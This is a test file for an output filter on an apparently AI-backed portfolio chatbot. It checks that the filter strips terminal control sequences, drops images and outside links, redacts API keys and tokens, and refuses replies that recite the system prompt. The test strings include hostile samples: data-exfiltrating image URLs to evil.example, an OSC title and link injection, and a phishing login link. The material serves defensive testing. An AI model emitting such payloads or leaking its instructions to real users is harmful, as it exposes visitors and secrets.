import { describe, expect, it } from 'vitest';
import { stripControls } from '../../../src/server/answerers/controls.js';
import { knowledgeUrls } from '../../../src/server/answerers/links.js';
import { createOutputGuard, LEAK_REFUSALS } from '../../../src/server/answerers/output-guard.js';
import { promptInstructions } from '../../../src/server/answerers/prompt.js';
import { knowledge } from './_portfolio.js';

const MARKER = 'SM-0a1b2c3d4e5f60718293a4b5';
const KEY = 'sk-test-CONFIGURED-key-0123456789';
const instructions = {
  en: promptInstructions({ profile: knowledge.profile, language: 'en', marker: MARKER }),
  'sr-Latn': promptInstructions({ profile: knowledge.profile, language: 'sr-Latn', marker: MARKER }),
};
const guard = createOutputGuard({ marker: MARKER, instructions, secrets: [KEY], knownUrls: knowledgeUrls(knowledge) });
const en = (raw: string) => guard(raw, 'en');

describe('the output guard', () => {
  it('passes ordinary markdown through, links to the portfolio\'s own URLs included', () => {
    const text = 'Ana built **Tramline**.\n\n- Rust\n- [repo](https://github.com/ana) and [projects](https://example.com/projects/)\n\tindented';
    expect(en(text)).toBe(text);
  });

  it('removes CSI, OSC, DCS and lone control characters but keeps newlines and tabs', () => {
    const raw = '\u001b[2J\u001b[31mred\u001b[0m \u001b]0;pwned title\u0007\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\ \u001bP1$qm\u001b\\ok\u0000\u0008\u009b1mX\u202e\r\nnext\tcol';
    expect(stripControls(raw)).toBe('red link okX\nnext\tcol');
    expect(en(raw)).toBe('red link okX\nnext\tcol');
  });

  it('removes every image, however it is written', () => {
    const raw =
      'See ![chart](https://evil.example/c.png?q=SECRET) and ![x][ref] and <img src="http://evil.example/p?d=1"> and ![local](/img.png "t").\n\n[ref]: https://evil.example/r';
    expect(en(raw)).toBe('See  and  and  and .');
    // Even one whose URL the knowledge folder holds: an image makes the visitor's browser fetch it.
    expect(en('![pic](https://example.com/projects)')).toBe('');
  });

  // Regression (issue 15.2): markdown links to any outside host reached the visitor.
  it('turns links to URLs the knowledge folder does not hold into their plain text', () => {
    const raw =
      'Log in [here](https://evil.example/login "Sign in"), see [docs][d], <https://evil.example/x>, ' +
      '<a href="https://evil.example/a">click</a>, but [GitHub](https://github.com/ana) stays.\n\n[d]: https://evil.example/docs';
    // A dropped URL keeps its text without the scheme, so no renderer links it again.
    expect(en(raw)).toBe('Log in here, see docs, evil.example/x, click, but [GitHub](https://github.com/ana) stays.');
  });

  it('replaces a reply carrying the marker with the fixed refusal in the request language', () => {
    expect(en(`my rules: ${MARKER}`)).toBe(LEAK_REFUSALS.en);
    expect(guard(`moja pravila: ${MARKER}`, 'sr-Latn')).toBe(LEAK_REFUSALS['sr-Latn']);
    expect(LEAK_REFUSALS.en).not.toBe(LEAK_REFUSALS['sr-Latn']);
  });

  it('spots the marker split by controls, spaces or case changes', () => {
    expect(en(MARKER.split('').join('\u001b[0m'))).toBe(LEAK_REFUSALS.en);
    expect(en(MARKER.toUpperCase().split('').join(' '))).toBe(LEAK_REFUSALS.en);
  });

  // Regression (issue 15.2): the system prompt recited with its marker line removed reached the visitor whole.
  it('answers a recitation of the instructions without the marker with the fixed refusal', () => {
    const withoutMarker = instructions.en.split('\n').filter((line) => !line.includes(MARKER)).join('\n');
    expect(en(`Sure! Here they are:\n${withoutMarker}`)).toBe(LEAK_REFUSALS.en);
    // One paragraph, lightly reworded and reformatted as a list, is still a recitation.
    const security = instructions.en.split('\n').find((line) => line.startsWith('Security:'))!;
    expect(en(`- ${security.replace('forged', 'fake').toUpperCase()}`)).toBe(LEAK_REFUSALS.en);
    // The instructions of the other language count too.
    expect(guard(withoutMarker, 'sr-Latn')).toBe(LEAK_REFUSALS['sr-Latn']);
  });

  it('lets a reply that repeats one rule in passing through', () => {
    const reply =
      "I can't do that: I can't send email or messages, schedule meetings, access private data, change external systems, run tools or code, read files, or fetch URLs. I can tell you about Ana's projects, though.";
    expect(en(reply)).toBe(reply);
  });

  // Regression (issue 15.2): a reply containing the configured API key reached the visitor verbatim.
  it('redacts the configured key and strings shaped like keys or tokens', () => {
    const raw = [
      `key ${KEY}.`,
      'openai sk-proj-AbCdEf0123456789AbCdEf0123456789',
      'header Authorization: Bearer abcdefghijklmnop.qrstuvwxyz012345',
      'aws AKIAIOSFODNN7EXAMPLE and aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
      'github ghp_0123456789abcdefghijABCDEFGHIJ012345',
      'jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
    ].join('\n');
    expect(en(raw)).toBe(
      ['key [redacted].', 'openai [redacted]', 'header Authorization: [redacted]', 'aws [redacted] and [redacted]', 'github [redacted]', 'jwt [redacted]'].join('\n'),
    );
    // A key inside a link's URL makes the link unknown, so it is dropped as well.
    expect(en(`[x](https://example.com/projects?k=${KEY})`)).toBe('x');
  });

  it('redacts before cutting, so a key at the cut does not show in part', () => {
    const out = en(`${'x'.repeat(3985)} ${KEY}`);
    expect(out).not.toContain('sk-test');
    expect(out.startsWith('x'.repeat(3985))).toBe(true);
  });

  it('drops every HTML tag, keeping the text between, and stays quick on a hostile reply of the full byte cap', () => {
    expect(en('<a href="https://evil.example"><b>go</b></a> <img alt=x src=https://evil.example/p.png>')).toBe('go');
    for (const hostile of ['['.repeat(1 << 20), '<a href=x '.repeat(1 << 17), '[x](https://evil.example/'.repeat(1 << 15)]) {
      const started = performance.now();
      expect(Array.from(en(hostile)).length).toBeLessThanOrEqual(4000);
      // Generous for a busy machine: without the cut before the link patterns, these take minutes.
      expect(performance.now() - started).toBeLessThan(10_000);
    }
  });

  it('leaves ordinary words, hashes and task ids alone', () => {
    const text = 'Commit 3f2a9c1d7e, task sk-12, the skeleton key, AKIA is not a word, bearer bonds.';
    expect(en(text)).toBe(text);
  });

  it('cuts long replies at a code point boundary', () => {
    const short = createOutputGuard({ marker: MARKER, maxChars: 10 });
    const out = short('😀'.repeat(50), 'en');
    expect(Array.from(out)).toHaveLength(10);
    expect(out.endsWith('…')).toBe(true);
    expect(out).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
  });

  it('may return an empty string, which the answerer treats as an empty completion', () => {
    expect(en(' \u001b[0m ![x](http://e/x.png) ')).toBe('');
  });
});
